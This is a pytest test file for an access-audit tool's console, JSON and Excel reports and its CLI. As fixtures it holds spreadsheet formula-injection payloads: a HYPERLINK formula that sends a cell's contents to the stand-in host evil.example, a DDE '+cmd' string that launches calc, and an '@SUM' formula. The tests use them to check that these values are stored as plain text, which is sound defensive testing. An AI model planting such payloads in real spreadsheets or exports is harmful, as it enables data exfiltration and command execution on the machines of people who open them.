"""Console, JSON and Excel reports, the workbook helpers, and the `audit` / `rules` commands."""

from __future__ import annotations

import json
import math
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
import pytest
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Font, PatternFill

from accessaudit.audit import AuditResult, run_audit
from accessaudit.cli import main
from accessaudit.errors import AccessAuditError
from accessaudit.model import RULE_IDS
from accessaudit.reports.console import summary_table
from accessaudit.reports.excel import write_report
from accessaudit.reports.json import audit_document, audit_json, findings_json
from accessaudit.reports.xlsx import (
    DATE_FORMAT,
    SEVERITY_COLOURS,
    ReportBook,
    cell_value,
    date_cell,
    rows_of,
    text_cell,
)
from accessaudit.snapshot import Snapshot
from test_rules_support import account, grant, group, member, org, person, policy, resource

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def sample() -> Snapshot:
    return org(
        people=[person("gone", status="terminated", end_date="2026-10-01")],
        accounts=[
            account("jdoe", last_sign_in="2026-06-01", display_name=EVIL),
            account("gone", display_name="+cmd|' /C calc'!A0"),
            account("ghost", person_id=None, display_name="@SUM(1+1)"),
            account("adm"),
        ],
        groups=[group("Domain Admins", privileged=True), group("Staff")],
        memberships=[member("Domain Admins", "adm"), member("Staff", "jdoe")],
        resources=[resource("Payroll", sensitivity="restricted")],
        grants=[grant("Staff", "Payroll")],
    )


@pytest.fixture
def result() -> AuditResult:
    return run_audit(sample(), policy())


def test_console_summary_lists_every_rule_run_and_totals(result: AuditResult) -> None:
    text = summary_table(result)
    assert "leaver-active" in text and "retention-overdue" in text
    assert "total" in text and "critical" in text


def test_json_is_an_array_with_evidence_objects_and_iso_dates(result: AuditResult) -> None:
    items = json.loads(findings_json(result))
    assert isinstance(items, list) and len(items) == len(result.findings)
    leaver = next(i for i in items if i["rule"] == "leaver-active")
    assert leaver["severity"] == "critical"
    assert isinstance(leaver["evidence"], dict)
    assert leaver["evidence"]["hr_end_date"].startswith("2026-10-01T00:00:00")
    assert isinstance(leaver["controls"], list)
    assert "NaN" not in findings_json(result)


def test_audit_json_text_is_what_the_standard_library_writes(result: AuditResult) -> None:
    # audit_json writes the indented text itself (the standard encoder is pure Python when
    # indenting); the bytes must be exactly json.dumps of the documented envelope.
    document = audit_document(result)
    for indent in (2, 4, None):
        expected = json.dumps(document, indent=indent, ensure_ascii=False, allow_nan=False)
        assert audit_json(result, indent=indent) == expected


def test_audit_json_text_of_awkward_values_matches_the_standard_library(
    result: AuditResult,
) -> None:
    import numpy as np

    awkward: list[object] = [
        None, pd.NA, pd.NaT, float("nan"), np.float32(0.1), 1e16, -0.0, 1.5e-7, 2**70,
        np.int8(-3), np.bool_(True), False, "tab\there \"quoted\" \\ back", "\x00\x1f\x7f",
        "\u2028 line sep, café, 日本, 😀", pd.Timestamp("2026-11-21 08:00", tz="UTC"),
        pd.Timedelta(days=3), np.array([1, 2]), (), [], {}, {1: "int key", "1": "clash"},
        {"nested": {"deeper": [[], [{}], ("a", None)]}}, frozenset(), set(), object,
    ]  # fmt: skip
    frame = pd.DataFrame({"rule": ["leaver-active"] * len(awkward), "severity": "critical"})
    frame["evidence"] = pd.Series(awkward, dtype=object)
    frame["controls"] = [["x", "y"]] * len(awkward)
    frame["exception_expires"] = pd.Series(range(len(awkward)), dtype="Int64").mask(
        lambda s: s % 3 == 0
    )
    from dataclasses import replace

    awkward_result = replace(result, findings=result.findings.head(0), suppressed=frame)
    expected = json.dumps(
        audit_document(awkward_result), indent=2, ensure_ascii=False, allow_nan=False
    )
    assert audit_json(awkward_result) == expected
    infinite = replace(result, suppressed=frame.assign(evidence=float("inf")))
    with pytest.raises(ValueError):
        json.dumps(audit_document(infinite), indent=2, allow_nan=False)
    with pytest.raises(ValueError):
        audit_json(infinite)


def test_excel_report_has_the_sheets_and_layout(tmp_path: Path, result: AuditResult) -> None:
    path = tmp_path / "report.xlsx"
    write_report(path, result, sample())
    book = openpyxl.load_workbook(path)
    fired = [r for r in result.rules_run if r in set(result.findings["rule"])]
    assert book.sheetnames == ["Summary", "Findings", *fired, "Accounts", "Access", "Rules"]
    findings = book["Findings"]
    assert findings.freeze_panes == "A2"
    # Printed evidence: landscape, header on every page, every sheet one page wide so a row
    # never splits across pages (issue 12: a Findings row used to print on six pages); the
    # wide Findings sheet prints on A3 to stay readable.
    assert findings.page_setup.orientation == "landscape"
    assert findings.print_title_rows == "$1:$1"
    assert findings.sheet_properties.pageSetUpPr.fitToPage
    assert findings.page_setup.fitToHeight == 0
    assert int(findings.page_setup.paperSize) == 8
    assert book["Summary"].sheet_properties.pageSetUpPr.fitToPage
    # person_name and department sit beside person_id (two more columns than DESIGN.md's).
    assert findings.auto_filter.ref == f"A1:N{len(result.findings) + 1}"
    # message: 44 characters as Excel shows them (xlsxwriter adds Excel's 5-pixel padding)
    assert round(findings.column_dimensions["L"].width) == 45
    # Issue 12: long text wraps in its column and the row is as high as the text needs, so
    # the A3 print fitted to one page width is readable; every cell of the row sits on top.
    header = [c.value for c in findings[1]]
    first = {header[i]: c for i, c in enumerate(findings[2])}
    for name in ("message", "evidence", "controls"):
        assert first[name].alignment.wrap_text and first[name].alignment.vertical == "top"
    assert (
        first["finding_id"].alignment.vertical == "top"
        and not first["finding_id"].alignment.wrap_text
    )
    evidence_lines = -(-len(first["evidence"].value) // int(52 * 1.2))
    assert findings.row_dimensions[2].height >= 15 * evidence_lines
    header = [c.value for c in findings[1]]
    assert header[:3] == ["finding_id", "severity", "rule"]
    severity = next(r[1] for r in findings.iter_rows(min_row=2) if r[1].value == "critical")
    assert severity.fill.fgColor.rgb.endswith("C00000")
    accounts = book["Accounts"]
    columns = [c.value for c in accounts[1]]
    row = {columns[i]: c for i, c in enumerate(next(accounts.iter_rows(min_row=2)))}
    assert row["last_sign_in"].is_date
    assert row["last_sign_in"].value.year == 2026
    assert len(list(accounts.iter_rows(min_row=2))) == 4
    leaver_sheet = book["leaver-active"]
    names = [c.value for c in leaver_sheet[1]]
    assert "evidence: hr_end_date" in names
    end = leaver_sheet.cell(row=2, column=names.index("evidence: hr_end_date") + 1)
    assert end.is_date


def test_source_text_that_looks_like_a_formula_stays_text(
    tmp_path: Path, result: AuditResult
) -> None:
    path = tmp_path / "report.xlsx"
    write_report(path, result, sample())
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        xml = "".join(archive.read(n).decode() for n in sheets)
    assert "<f>" not in xml and "<f " not in xml
    book = openpyxl.load_workbook(path)
    values = {c.value: c.data_type for row in book["Accounts"].iter_rows() for c in row}
    for text in (EVIL, "+cmd|' /C calc'!A0", "@SUM(1+1)"):
        assert values[text] == "s"


def test_text_cell_is_text_whatever_the_value(tmp_path: Path) -> None:
    book = ReportBook()
    sheet = book.create_sheet("x")
    sheet.append(
        [
            text_cell("=1+1"),
            text_cell("\tx"),
            cell_value("-2+3"),
            date_cell(pd.Timestamp("2026-11-21 10:00", tz="UTC")),
            text_cell("#N/A"),
        ]
    )
    book.save(tmp_path / "x.xlsx")
    with zipfile.ZipFile(tmp_path / "x.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and 't="e"' not in xml
    sheet = openpyxl.load_workbook(tmp_path / "x.xlsx")["x"]
    assert [c.data_type for c in sheet[1]] == ["s", "s", "s", "d", "s"]
    assert [c.value for c in sheet[1]][:3] == ["=1+1", "\tx", "-2+3"]
    assert sheet["D1"].is_date and sheet["D1"].value.hour == 10


def test_failed_save_leaves_nothing_half_written(tmp_path: Path, result: AuditResult) -> None:
    target = tmp_path / "report.xlsx"
    target.mkdir()  # a folder in the way: the rename fails after the workbook is written
    with pytest.raises(AccessAuditError, match="report.xlsx"):
        write_report(target, result, sample())
    assert sorted(p.name for p in tmp_path.iterdir()) == ["report.xlsx"]
    assert target.is_dir()


@pytest.fixture
def saved(tmp_path: Path) -> tuple[Path, Path]:
    snapshot_dir = sample().save(tmp_path / "snap")
    config = tmp_path / "audit.toml"
    config.write_text('[audit]\nas_of = "2026-11-21"\n\n[policy]\nstale_days = 90\n')
    return config, snapshot_dir


def test_cli_json_prints_only_the_envelope(
    saved: tuple[Path, Path], capsys: pytest.CaptureFixture[str]
) -> None:
    # The contract changed from a bare array of findings to the envelope of DESIGN.md.
    config, snapshot_dir = saved
    code = main(["audit", "--config", str(config), "--snapshot", str(snapshot_dir),
                 "--format", "json"])  # fmt: skip
    out = capsys.readouterr().out
    assert code == 0
    envelope = json.loads(out)
    assert {i["rule"] for i in envelope["findings"]} >= {"leaver-active", "orphan-account"}


def test_cli_fail_on_sets_exit_status_and_excel_is_written(
    saved: tuple[Path, Path], tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config, snapshot_dir = saved
    base = ["audit", "--config", str(config), "--snapshot", str(snapshot_dir)]
    assert main([*base, "--fail-on", "critical", "--excel", str(tmp_path / "r.xlsx")]) == 1
    assert (tmp_path / "r.xlsx").is_file()
    assert main([*base, "--fail-on", "critical", "--rules", "stale-account"]) == 0
    assert main([*base, "--rules", "stale-acount"]) == 2
    assert "stale-acount" in capsys.readouterr().err


def test_cli_rules_catalogue_as_json(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["rules", "--format", "json"]) == 0
    items = json.loads(capsys.readouterr().out)
    assert len(items) == len(RULE_IDS) and items[0]["controls"]


# The streamed rows are our own SpreadsheetML, with style indexes read from what openpyxl
# wrote: this guards that they read back as the cells openpyxl itself writes.
def _awkward_frame(rows: int) -> pd.DataFrame:
    text = ["a", None, "", " lead", "trail\u3000", "=1+1", "#N/A", "x&<y>\r\nz", "\x01bad", "é"]
    when = pd.Series(pd.date_range("2026-01-01 10:30", periods=rows, freq="37min", tz="UTC"))
    when[1] = pd.NaT
    return pd.DataFrame(
        {
            "text": pd.Series((text * rows)[:rows], dtype="str"),
            "severity": (["critical", "low", "other"] * rows)[:rows],
            "mixed": (
                [1, 2.5, True, None, pd.Timestamp("2026-03-01"), {"k": 1}, ["a", "b"]] * rows
            )[:rows],
            "when": when,
            "flag": [i % 2 == 0 for i in range(rows)],
        }
    )


def _openpyxl_cell(
    sheet: object, value: object, font: Font | None = None, fill: PatternFill | None = None
) -> WriteOnlyCell | None:
    """The cell openpyxl itself writes for a report value (the reference for streamed rows)."""
    if value is None or value is pd.NaT or (isinstance(value, float) and math.isnan(value)):
        return None
    if isinstance(value, pd.Timestamp):
        value = value.tz_convert("UTC").tz_localize(None) if value.tzinfo else value
        cell = WriteOnlyCell(sheet, value=value.to_pydatetime())
        cell.number_format = DATE_FORMAT
        return cell
    if isinstance(value, dict):
        value = json.dumps(value)
    elif isinstance(value, list):
        value = "; ".join(value)
    if isinstance(value, str):
        # XML cannot hold U+0001: openpyxl refuses it; the report shows U+FFFD
        value = value.replace("\x01", "\ufffd")
    cell = WriteOnlyCell(sheet, value=value)
    if isinstance(value, str):
        cell.data_type = "s"  # never a formula or an error, as in the report
    if font is not None:
        cell.font, cell.fill = font, fill
    return cell


def _sheet_cells(path: Path) -> list[tuple[object, ...]]:
    sheet = openpyxl.load_workbook(path)["x"]
    return [
        # the colour without its alpha byte, which Excel ignores in fills (openpyxl writes 00,
        # xlsxwriter FF as Excel does)
        (c.coordinate, c.value, c.data_type, c.number_format, c.fill.fgColor.rgb[2:], c.font.b)
        for row in sheet.iter_rows()
        for c in row
    ]


def test_streamed_rows_match_openpyxl_cells_except_text_never_evaluated(tmp_path: Path) -> None:
    frame = _awkward_frame(2_500)  # long enough for the vectorised text columns
    fast = ReportBook()
    fast.write_frame("x", frame, severity=["severity"])
    fast.save(tmp_path / "fast.xlsx")

    slow = openpyxl.Workbook(write_only=True)
    sheet = slow.create_sheet("x")
    header = Font(bold=True, color="FFFFFF"), PatternFill("solid", fgColor="1F3864")
    sheet.append([_openpyxl_cell(sheet, name, *header) for name in frame.columns])
    for text, severity, mixed, when, flag in rows_of(frame):
        colour = SEVERITY_COLOURS.get(severity)
        style = (
            (Font(bold=True, color="FFFFFF" if severity in ("critical", "high") else "000000"),
             PatternFill("solid", fgColor=colour))
            if colour else (None, None)
        )  # fmt: skip
        sheet.append(
            [
                _openpyxl_cell(sheet, text),
                _openpyxl_cell(sheet, severity, *style),
                _openpyxl_cell(sheet, mixed),
                _openpyxl_cell(sheet, when),
                _openpyxl_cell(sheet, flag),
            ]
        )
    slow.save(tmp_path / "slow.xlsx")

    fast_cells, slow_cells = (
        _sheet_cells(tmp_path / "fast.xlsx"),
        _sheet_cells(tmp_path / "slow.xlsx"),
    )
    assert [c for c in fast_cells if c[1] == "#N/A"] and all(
        c[2] == "s" for c in fast_cells if c[1] in ("#N/A", "=1+1")
    )
    assert fast_cells == slow_cells
